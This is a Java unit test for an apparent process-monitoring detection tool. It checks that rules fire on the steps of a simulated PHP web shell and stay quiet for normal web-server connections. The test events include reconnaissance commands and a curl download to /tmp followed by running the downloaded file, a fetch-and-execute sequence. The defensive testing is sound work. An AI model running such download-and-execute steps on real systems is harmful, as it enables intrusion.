package io.spawnwatch.rules;

import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_EXECUTION;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_PROCESS;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_CHILD;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_NETWORK;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_PROCESS;
import static io.spawnwatch.rules.BuiltinRuleFixture.matching;
import static io.spawnwatch.rules.BuiltinRuleFixture.loginShellChild;
import static io.spawnwatch.rules.BuiltinRuleFixture.rule;
import static io.spawnwatch.rules.BuiltinRuleFixture.shFromPhp;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import io.spawnwatch.rules.sigma.SigmaRule;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Positive and negative events for one shipped rule, as the Debian 12 sensor reports them. */
class WebShellScenarioTest {
    @Test
    void shouldRaiseTheseRulesForEachStepOfAPhpWebShell() {
        assertEquals(List.of(SUSPICIOUS_COMMAND, UNUSUAL_COMMAND, UNUSUAL_PROCESS), matching(shFromPhp("id")));
        // dash execs the last command of "sh -c" in place: id's parent is then php-fpm itself.
        assertEquals(List.of(UNUSUAL_CHILD), matching(TestEvent.phpFpmChild("/usr/bin/id", "id", "id")));
        assertEquals(List.of(SUSPICIOUS_CHILD_PROCESS, UNUSUAL_CHILD),
                matching(TestEvent.phpFpmChild("/usr/bin/uname", "uname", "uname -a")));
        assertEquals(List.of(SUSPICIOUS_CHILD_EXECUTION), matching(
                TestEvent.phpFpmGrandchild("/usr/bin/curl", "curl", "curl -so /tmp/x http://127.0.0.1:8081/x")));
        assertEquals(List.of(SUSPICIOUS_CHILD_EXECUTION, UNUSUAL_PROCESS),
                matching(TestEvent.phpFpmGrandchild("/tmp/x", "x", "/tmp/x")));
    }

    @Test
    void shouldRaiseNothingForTheWebServerDoingItsWork() {
        TestEvent fpmToMysql = TestEvent.connect().set(Field.PROCESS_NAME, "php-fpm8.2")
                .set(Field.IMAGE, "/usr/sbin/php-fpm8.2").set(Field.USER, "www-data").set(Field.USER_ID, 33)
                .set(Field.LINEAGE_DEPTH, 0).set(Field.DESTINATION_IP, "127.0.0.1").set(Field.DESTINATION_PORT, 3306);
        assertEquals(List.of(), matching(fpmToMysql));
        TestEvent nginxUpstream = TestEvent.connect().set(Field.PROCESS_NAME, "nginx")
                .set(Field.IMAGE, "/usr/sbin/nginx").set(Field.USER, "www-data").set(Field.USER_ID, 33)
                .set(Field.DESTINATION_IP, "10.0.0.7").set(Field.DESTINATION_PORT, 8080);
        assertEquals(List.of(), matching(nginxUpstream));
    }
}
